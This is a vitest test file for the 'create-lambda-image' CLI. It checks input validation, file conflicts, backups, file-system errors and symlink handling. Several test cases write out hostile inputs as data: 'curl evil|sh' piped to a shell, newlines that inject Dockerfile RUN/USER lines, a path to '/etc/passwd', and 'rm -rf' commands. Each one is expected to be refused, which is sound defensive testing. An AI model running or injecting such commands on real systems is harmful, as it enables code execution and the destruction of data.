import { spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, openSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { run, snapshotTree, tempDir } from '../support/run';

/** Runs with a pre-existing file in the cwd, so "nothing written" is checked against real content. */
async function expectRefused(argv: string[], message: RegExp) {
  const cwd = tempDir();
  writeFileSync(join(cwd, 'keep.txt'), 'untouched\n');
  const before = snapshotTree(cwd);
  const result = await run(argv, { cwd });
  expect(result.code).toBe(2);
  expect(result.stdout).toBe('');
  const lines = result.stderr.trim().split('\n');
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatch(/^create-lambda-image: /);
  expect(lines[0]).toMatch(message);
  expect(snapshotTree(cwd)).toEqual(before);
}

describe('bad input: one line, exit 2, nothing written', () => {
  const cases: [string, string[], RegExp][] = [
    ['unknown runtime', ['fn', '--runtime', 'nodejs99'], /unknown runtime "nodejs99".*choose one of: nodejs24, nodejs22/],
    ['unknown arch', ['fn', '--runtime', 'nodejs24', '--arch', 'amd64'], /--arch: invalid value "amd64"; choose one of: x86_64, arm64/],
    ['unknown base', ['fn', '--runtime', 'nodejs24', '--base', 'lambda'], /--base: invalid value "lambda"; choose one of: aws, os-only, image/],
    ['unknown flag', ['fn', '--runtime', 'nodejs24', '--archh', 'arm64'], /unknown flag --archh; did you mean --arch\?.*valid flags: --base/],
    ['flag without value', ['fn', '--runtime'], /--runtime needs a value/],
    ['two folders', ['a', 'b', '--runtime', 'nodejs24'], /at most one folder/],
    ['build tool on a non-Java runtime', ['fn', '--runtime', 'nodejs24', '--build-tool', 'maven'], /--build-tool applies only to Java/],
    ['typescript on Python', ['fn', '--runtime', 'python3.13', '--typescript'], /--typescript applies only to Node\.js/],
    ['--os with --base aws', ['fn', '--runtime', 'nodejs24', '--os', 'al2023'], /--os applies only to --base os-only/],
    ['--image with --base aws', ['fn', '--runtime', 'nodejs24', '--image', 'debian:bookworm-slim'], /--image applies only to --base image/],
    ['--rie on an AWS base', ['fn', '--runtime', 'nodejs24', '--rie'], /--rie applies only to --base image/],
    ['handler in the wrong format', ['fn', '--runtime', 'java21', '--handler', 'app/handler.js'], /not a Java handler; expected package\.Class::method/],
    ['deprecated runtime', ['fn', '--runtime', 'nodejs20'], /nodejs20 .* is deprecated \(deprecation 2026-04-30, updates blocked from 2027-03-03\).*--allow-deprecated/],
    ['deprecated runtime by Lambda id', ['fn', '--runtime', 'python3.10'], /deprecation 2026-10-31/],
    // Injection attempts: each would break out of its instruction if it were written.
    ['newline in the handler', ['fn', '--runtime', 'nodejs24', '--handler', 'index.handler\nRUN curl evil|sh'], /--handler: .* is not a Node\.js handler/],
    ['quote in the handler', ['fn', '--runtime', 'python3.13', '--handler', 'app.handler"]\nENTRYPOINT ["sh'], /--handler: .* is not a Python handler/],
    ['path escape in the handler', ['fn', '--runtime', 'nodejs24', '--handler', '../../etc/passwd.handler'], /--handler: .* is not a Node\.js handler/],
    ['path escape inside the handler', ['fn', '--runtime', 'nodejs24', '--handler', 'src/../../x.handler'], /--handler: .* is not a Node\.js handler/],
    ['shell in a package name', ['fn', '--runtime', 'nodejs24', '--os-package', 'jq; curl evil|sh'], /--os-package: "jq; curl evil\|sh" is not a package name/],
    ['newline in a package name', ['fn', '--runtime', 'nodejs24', '--os-package', 'jq\nUSER root'], /is not a package name/],
    ['option-like package name', ['fn', '--runtime', 'nodejs24', '--build-os-package', '-y'], /--build-os-package needs a value/],
    ['bad syntax reference', ['fn', '--runtime', 'nodejs24', '--syntax', 'docker/dockerfile:1\nRUN x'], /--syntax: .* is not an image reference/],
    ['quote in the folder name', ['f"n', '--runtime', 'nodejs24'], /the folder "f\\"n" has characters/],
    ['shell metacharacters in the folder name', ['fn;rm -rf ~', '--runtime', 'nodejs24'], /has characters a folder name should not have/],
    ['bad boolean value', ['fn', '--runtime', 'nodejs24', '--typescript=yes'], /--typescript takes true or false/],
    ['value on a negated flag', ['fn', '--runtime', 'nodejs24', '--no-sample=1'], /--no-sample takes no value/],
    ['image config without CloudFormation', ['fn', '--runtime', 'nodejs24', '--image-config'], /--image-config applies only to --deploy cloudformation/],
    ['cross-account policy without accounts', ['fn', '--runtime', 'nodejs24', '--ecr-policy', 'cross-account'], /needs at least one --allow-account/],
    ['bad account id', ['fn', '--runtime', 'nodejs24', '--ecr-policy', 'cross-account', '--allow-account', '12345'], /12345/],
    ['bad region', ['fn', '--runtime', 'nodejs24', '--deploy', 'script', '--region', 'mars-1'], /mars-1/],
    ['function name injection', ['fn', '--runtime', 'nodejs24', '--deploy', 'script', '--function-name', "fn'; rm -rf /"], /fn'; rm -rf \//],
  ];
  for (const [name, argv, message] of cases) {
    it(name, async () => {
      await expectRefused(argv, message);
    });
  }
});

describe('missing required values without a terminal', () => {
  it('names each missing value', async () => {
    await expectRefused([], /missing required values: folder \(\[dir\], --dir or --stdout\); --runtime \(one of: nodejs24, nodejs22,.*\)/);
  });
  it('names only the runtime when the folder is given', async () => {
    await expectRefused(['fn'], /missing required values: --runtime \(one of/);
  });
  it('--stdout stands in for the folder', async () => {
    await expectRefused(['--stdout'], /missing required values: --runtime/);
  });
});

describe('conflicting files in the target folder', () => {
  it('refuses without --force, listing the conflicts, and leaves them untouched', async () => {
    const cwd = tempDir();
    mkdirSync(join(cwd, 'fn'));
    writeFileSync(join(cwd, 'fn', 'Dockerfile'), 'FROM scratch\n');
    writeFileSync(join(cwd, 'fn', 'index.mjs'), '// mine\n');
    const before = snapshotTree(cwd);
    const result = await run(['fn', '--runtime', 'nodejs24'], { cwd });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/fn already has Dockerfile, index\.mjs with other content; pass --force/);
    expect(snapshotTree(cwd)).toEqual(before);
  });

  it('overwrites with --force', async () => {
    const cwd = tempDir();
    mkdirSync(join(cwd, 'fn'));
    writeFileSync(join(cwd, 'fn', 'Dockerfile'), 'FROM scratch\n');
    const result = await run(['fn', '--runtime', 'nodejs24', '--force'], { cwd });
    expect(result.code).toBe(0);
    expect(snapshotTree(join(cwd, 'fn')).Dockerfile).toMatch(/FROM public\.ecr\.aws\/lambda\/nodejs:24/);
  });

  it('a target that is a file is refused', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'fn'), 'not a folder');
    const result = await run(['fn', '--runtime', 'nodejs24'], { cwd });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/exists and is not a folder/);
  });
});

describe('backups', () => {
  it('never overwrite an earlier .orig file', async () => {
    const cwd = tempDir();
    mkdirSync(join(cwd, 'fn'));
    writeFileSync(join(cwd, 'fn', 'Dockerfile'), 'FROM scratch\n');
    writeFileSync(join(cwd, 'fn', 'Dockerfile.orig'), 'mine\n');
    const result = await run(['fn', '--runtime', 'nodejs24', '--no-lint', '--force'], { cwd });
    expect(result.code).toBe(0);
    expect(readFileSync(join(cwd, 'fn', 'Dockerfile.orig'), 'utf8')).toBe('mine\n');
    expect(readFileSync(join(cwd, 'fn', 'Dockerfile.orig.1'), 'utf8')).toBe('FROM scratch\n');
  });
});

describe('the file system refuses: one line, exit 2, nothing left behind', () => {
  it('a file where a folder must go', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'keep.txt'), 'untouched\n');
    const before = snapshotTree(cwd);
    const result = await run(['keep.txt/fn', '--runtime', 'nodejs24'], { cwd });
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(`create-lambda-image: cannot write ${join(cwd, 'keep.txt', 'fn')}: a part of the path is a file, not a folder\n`);
    expect(snapshotTree(cwd)).toEqual(before);
  });

  it('a failure part-way removes the files and folders already staged', async () => {
    // src/main.rs cannot be written while src is a file; Dockerfile and Cargo.toml come first.
    const cwd = tempDir();
    const dir = join(cwd, 'fn');
    mkdirSync(dir);
    writeFileSync(join(dir, 'src'), 'a file\n');
    const result = await run(['fn', '--base', 'os-only', '--runtime', 'rust'], { cwd });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^create-lambda-image: cannot write .*fn\/src\/main\.rs: a part of the path is a file, not a folder$/m);
    expect(readdirSync(dir)).toEqual(['src']);
  });

  it('keeps no backup of a write that failed', async () => {
    const { planWrite, writeFiles } = await import('../../src/write');
    const dir = tempDir();
    writeFileSync(join(dir, 'Dockerfile'), 'FROM scratch\n');
    writeFileSync(join(dir, 'src'), 'a file\n');
    const files = [
      { path: 'Dockerfile', content: 'FROM alpine:3.23\n', owned: true },
      { path: 'src/main.rs', content: 'fn main() {}\n', owned: false },
    ];
    const plan = planWrite(dir, files);
    expect(plan.conflicts).toEqual(['Dockerfile']);
    await expect(writeFiles(dir, plan, { backup: true })).rejects.toThrow(/cannot write .*src\/main\.rs/);
    expect(readdirSync(dir).sort()).toEqual(['Dockerfile', 'src']);
    expect(readFileSync(join(dir, 'Dockerfile'), 'utf8')).toBe('FROM scratch\n');
    // The same write without the obstacle keeps the old file as Dockerfile.orig.
    rmSync(join(dir, 'src'));
    expect(await writeFiles(dir, planWrite(dir, files), { backup: true })).toEqual({ written: ['Dockerfile', 'src/main.rs'], backups: ['Dockerfile.orig'] });
    expect(readFileSync(join(dir, 'Dockerfile.orig'), 'utf8')).toBe('FROM scratch\n');
  });

  it.runIf(existsSync('/proc/self'))('a folder that cannot be created ends instead of looping (/proc)', async () => {
    const result = await run(['/proc/create-lambda-image-test', '--runtime', 'nodejs24']);
    expect(result.code).toBe(2);
    expect(result.stderr).toBe('create-lambda-image: cannot write /proc/create-lambda-image-test: the folder cannot be created there\n');
  });

  it.runIf(existsSync('/dev/full'))('standard output that fails is one line and exit 2', () => {
    const bin = join(import.meta.dirname, '..', '..', 'bin', 'create-lambda-image.cjs');
    const r = spawnSync(process.execPath, [bin, 'list'], { stdio: ['ignore', openSync('/dev/full', 'w'), 'pipe'], encoding: 'utf8', env: { PATH: '/nonexistent', CREATE_LAMBDA_IMAGE_NO_CACHE: '1' } });
    expect(r.status).toBe(2);
    expect(r.stderr).toBe('create-lambda-image: cannot write standard output: no space left on device\n');
  });
});

describe('symbolic links inside the target', () => {
  it('a linked folder is refused, not followed', async () => {
    const cwd = tempDir();
    const elsewhere = tempDir('elsewhere-');
    mkdirSync(join(cwd, 'fn'));
    symlinkSync(elsewhere, join(cwd, 'fn', 'src'));
    const result = await run(['fn', '--base', 'os-only', '--runtime', 'rust'], { cwd });
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split('\n').at(-1)).toBe('create-lambda-image: refusing to write src/main.rs: src is a symbolic link');
    expect(readdirSync(elsewhere)).toEqual([]);
    expect(readdirSync(join(cwd, 'fn'))).toEqual(['src']);
  });

  it('a linked file is replaced by the generated file, its target untouched', async () => {
    const cwd = tempDir();
    const outside = join(tempDir('elsewhere-'), 'Dockerfile');
    writeFileSync(outside, 'FROM scratch\n');
    mkdirSync(join(cwd, 'fn'));
    symlinkSync(outside, join(cwd, 'fn', 'Dockerfile'));
    const result = await run(['fn', '--runtime', 'nodejs24', '--force'], { cwd });
    expect(result.code, result.stderr).toBe(0);
    expect(readFileSync(outside, 'utf8')).toBe('FROM scratch\n');
    expect(lstatSync(join(cwd, 'fn', 'Dockerfile')).isSymbolicLink()).toBe(false);
  });
});

describe('writeError', () => {
  it('words the system refusals, and leaves a programming error as it is', async () => {
    const { UsageError, writeError } = await import('../../src/shared/errors');
    const refused = Object.assign(new Error('EACCES: permission denied, open'), { code: 'EACCES', syscall: 'open' });
    const mapped = writeError('/x/Dockerfile', refused);
    expect(mapped).toBeInstanceOf(UsageError);
    expect(mapped.message).toBe('cannot write /x/Dockerfile: permission denied');
    const bug = Object.assign(new TypeError('The "path" argument must be of type string'), { code: 'ERR_INVALID_ARG_TYPE' });
    expect(writeError('/x/Dockerfile', bug)).toBe(bug);
  });
});
